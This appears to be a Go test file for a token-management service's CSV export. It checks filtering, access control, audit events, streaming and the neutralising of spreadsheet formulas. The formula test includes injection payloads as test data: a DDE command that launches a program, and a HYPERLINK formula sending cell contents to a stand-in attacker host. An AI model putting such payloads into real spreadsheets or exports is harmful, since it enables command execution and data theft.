package handlers_test

import (
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/latchkey-dev/latchkey/internal/store"
	"github.com/latchkey-dev/latchkey/internal/store/storetest"
	"github.com/latchkey-dev/latchkey/models"
)

// exported are the rows of a file, without its head, by the column's number.
func exported(t *testing.T, a answer, column int) []string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(a.body)).ReadAll()
	if err != nil || a.status != http.StatusOK {
		t.Fatalf("%d %v: %s", a.status, err, a.body)
	}
	var all []string
	for _, row := range rows[1:] {
		all = append(all, row[column])
	}
	return all
}

func TestExport_IsTheListToTheLastByte(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		w := newWorld(t, s)
		b := w.as(w.dana)
		m, page := b.minted(places()[0], models.ClientCredentials)
		if places()[0].context != models.API {
			m, page = b.minted(places()[1], models.ClientCredentials)
		}
		b.open(page + "/edit")
		b.submit("", "description", `Nightly "export", all`, "addresses", "203.0.113.0/24 2001:db8::1", "metadata", "", "contact", "")
		w.clock.pass(time.Minute)
		b.used(m, "203.0.113.9", "deployer/4.2")
		at := w.clock.Now().UTC()
		a := w.dan().get("/workspace/tokens/export.csv")
		want := "id,description,type,secret,roles,status,created_at,created_by,created_by_email,expires_at,last_used_at,last_used_from,allowed_addresses\r\n" +
			fmt.Sprintf("%s,\"Nightly \"\"export\"\", all\",ClientCredentials,%s_…%s,Editor,active,%s,Dana,dana@acme.example,%s,%s,203.0.113.9,203.0.113.0/24 2001:db8::1/128\r\n",
				m.Token.ID, m.Token.Prefix, m.Token.LastFour, at.Add(-time.Minute).Format(time.RFC3339), at.Add(-time.Minute).Add(90*24*time.Hour).Format(time.RFC3339), at.Format(time.RFC3339))
		if a.status != http.StatusOK || a.body != want {
			t.Errorf("%d\n%s\nwant\n%s", a.status, a.body, want)
		}
		for name, want := range map[string]string{
			"Content-Type":        "text/csv; charset=utf-8; header=present",
			"Content-Disposition": "attachment; filename=api-tokens-2026-11-23.csv",
			"Cache-Control":       "no-store", "Content-Length": "", "X-Content-Type-Options": "nosniff",
		} {
			if got := a.header.Get(name); got != want {
				t.Errorf("%s: %q", name, got)
			}
		}
		if strings.Contains(a.body, m.Secret.Reveal()) || keyIn.MatchString(a.body) {
			t.Error("the file has a secret")
		}
		a = w.dan().get("/account/tokens/export.csv")
		if a.status != http.StatusOK || strings.Count(a.body, "\r\n") != 1 || a.header.Get("Content-Disposition") != "attachment; filename=personal-tokens-2026-11-23.csv" {
			t.Errorf("of an empty list: %d %v %q", a.status, a.header, a.body)
		}
	})
}

func TestExport_ObeysWhatTheListIsNarrowedAndSortedBy(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		w := newWorld(t, s)
		priya := w.assorted(models.API)
		w.assorted(models.Personal)
		b := w.as(w.dana)
		for _, query := range []string{
			"", "state=active", "state=expired", "state=permanent&used=never", "type=AccessToken", "q=EXPORT", "sort=description", "sort=-lastUsed", "sort=expires&q=export",
		} {
			for _, p := range places() {
				b.open(p.path + "?" + query)
				want := b.names()
				link := b.doc().Find("main a[download]").AttrOr("href", "")
				if want == "" {
					link = p.path + "/export.csv?" + query
				}
				if got := strings.Join(exported(t, b.request(http.MethodGet, link, ""), 1), ", "); got != want {
					t.Errorf("%s has %s, the list %s", link, got, want)
				}
			}
		}
		for query, want := range map[string]string{"role=Editor": "charlie, alpha export", "creator=" + priya.UserID: "Echo export, Bravo sync", "role=Admin": ""} {
			if got := strings.Join(exported(t, w.dan().get("/workspace/tokens/export.csv?"+query), 1), ", "); got != want {
				t.Errorf("?%s has %s", query, got)
			}
		}
		status := exported(t, w.dan().get("/workspace/tokens/export.csv"), 5)
		if want := []string{"active", "active", "expired", "active"}; !slices.Equal(status, want) {
			t.Errorf("status %v", status)
		}
		for query, says := range map[string]string{
			"state=gone": "error.badPage.title", "sort=id": "error.badPage.title", "role=No-such": "error.badPage.title",
			"q=" + strings.Repeat("a", 201): "error.badSearch.title", "q=" + w.mint(combination{models.API, models.AccessToken}, 0).Secret.Reveal(): "error.secret.title",
		} {
			a := w.dan().get("/workspace/tokens/export.csv?" + query)
			if a.status != http.StatusBadRequest || a.header.Get("Content-Disposition") != "" {
				t.Errorf("?%s: %d %v", query, a.status, a.header)
			}
			speaks(t, query, a, says)
		}
	})
}

func TestExport_NoCellRunsAsAFormula(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		w := newWorld(t, s)
		cells := []string{
			`=cmd|' /C calc'!A0`, "+1+1", "-2+3", "@SUM(1)", "＝1+1", "－1", "＠x", `=HYPERLINK("http://evil.example?x="&A1,"open")`, `"=1+1`, "a=b", "a-b, c", "'quoted'",
		}
		for _, text := range cells {
			w.clock.pass(time.Second)
			w.sow(w.dana, models.Personal, models.AccessToken, text, 0)
		}
		got := exported(t, w.dan().get("/account/tokens/export.csv?sort=created"), 1)
		for i, text := range cells {
			want := text
			if i < 8 {
				want = "'" + text
			}
			if got[i] != want {
				t.Errorf("%q is written as %q", text, got[i])
			}
		}
	})
}

// P10 and rule 4: whoever may see the list may take it, and nobody else; the log knows who did.
func TestExport_IsForThoseWhoSeeTheList(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		w := newWorld(t, s)
		w.assorted(models.API)
		w.assorted(models.Personal)
		for _, who := range w.walkers() {
			for _, p := range places() {
				path := p.path + "/export.csv"
				seat := w.sit(who)
				w.news()
				a := seat.get(path)
				events := w.news()
				switch {
				case who.userID == "" && a.status == http.StatusSeeOther, who.tenantID == "" && a.status == http.StatusForbidden,
					who.name == "member" && a.status == http.StatusForbidden:
					if len(events) != 0 || strings.Contains(a.text(), "alpha") {
						t.Errorf("%s at %s: %+v", who.name, path, events)
					}
				case a.status != http.StatusOK || len(events) != 1 || events[0].Action != models.TokensExported || events[0].ActorID != who.userID ||
					events[0].TenantID != who.tenantID || events[0].RequestID == "" || events[0].TargetName != string(p.context)+" tokens":
					t.Errorf("%s at %s: %d, %+v", who.name, path, a.status, events)
				case who.name == "neighbour", who.name == "viewer" && p.context == models.Personal:
					if n := strings.Count(a.body, "\r\n"); n != 1 {
						t.Errorf("%s at %s: %s", who.name, path, a.body)
					}
				default:
					if n := strings.Count(a.body, "\r\n"); n != 5 {
						t.Errorf("%s at %s: %s", who.name, path, a.body)
					}
				}
			}
		}
	})
}

// crowd puts n API tokens into Acme, as seed does.
func (w *world) crowd(n int) {
	w.t.Helper()
	loaded := func(yield func(store.LoadedToken) bool) {
		for i := range n {
			at := models.Stamp(w.clock.Now().Add(time.Duration(i) * time.Millisecond))
			token := models.Token{
				ID: models.NewID(at), TenantID: w.acme.ID, Context: models.API, Kind: models.AccessToken, Description: fmt.Sprintf("robot %04d", i),
				Prefix: "lk_at", LastFour: "0000", CreatedBy: w.dana.UserID, CreatedAt: at, ExpiresAt: models.NeverExpires, LastUsedAt: models.NeverUsed, Metadata: "{}",
			}
			secret := models.TokenSecret{
				ID: models.NewID(at), TokenID: token.ID, Digest: models.HashOpaque(token.ID), Prefix: token.Prefix, LastFour: token.LastFour, CreatedAt: at,
				EndsAt: models.NeverExpires, LastUsedAt: models.NeverUsed,
			}
			if !yield(store.LoadedToken{Token: token, Secret: secret, Event: models.NewEvent(callerOf(w.dana), models.TokenCreated, at)}) {
				return
			}
		}
	}
	_, err := w.store.LoadTokens(w.t.Context(), loaded)
	w.must(err)
	w.clock.pass(time.Duration(n) * time.Millisecond)
}

// Over a real connection: nothing of a long list waits for its end, and what ends too soon
// does not look whole.
func TestExport_OfALongListComesAsItIsReadAndNeverHalf(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		w := newWorld(t, s)
		w.crowd(3000)
		server := httptest.NewServer(w.server)
		defer server.Close()
		dan := w.dan()
		take := func() (*http.Response, string, error) {
			r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, server.URL+"/workspace/tokens/export.csv?sort=description", nil)
			w.must(err)
			r.Host = "portal.example.com"
			for i := 0; i+1 < len(dan.headers); i += 2 {
				r.Header.Set(dan.headers[i], dan.headers[i+1])
			}
			res, err := server.Client().Do(r)
			w.must(err)
			defer res.Body.Close()
			body, err := io.ReadAll(res.Body)
			return res, string(body), err
		}
		res, body, err := take()
		if err != nil || res.StatusCode != http.StatusOK || res.ContentLength != -1 || !slices.Equal(res.TransferEncoding, []string{"chunked"}) {
			t.Errorf("%d, %v, length %d, %v", res.StatusCode, res.TransferEncoding, res.ContentLength, err)
		}
		if got := exported(t, answer{res.StatusCode, res.Header, body}, 1); len(got) != 3000 || !slices.IsSorted(got) || got[2999] != "robot 2999" {
			t.Errorf("%d rows, sorted is %v", len(got), slices.IsSorted(got))
		}
		happened := storetest.FailAfter(s, 12, errors.New("disk full"))
		res, body, err = take()
		if !happened() || res.StatusCode != http.StatusOK || err == nil || len(body) == 0 || strings.Contains(body, "disk full") {
			t.Errorf("a file that was cut off: %d, %d bytes, %v", res.StatusCode, len(body), err)
		}
		happened = storetest.FailAfter(s, 2, errors.New("disk full"))
		res, body, err = take()
		if !happened() || res.StatusCode < 500 || err != nil || res.Header.Get("Content-Disposition") != "" || strings.Contains(body, "disk full") {
			t.Errorf("a file that never began: %d, %v: %.200s", res.StatusCode, err, body)
		}
	})
}
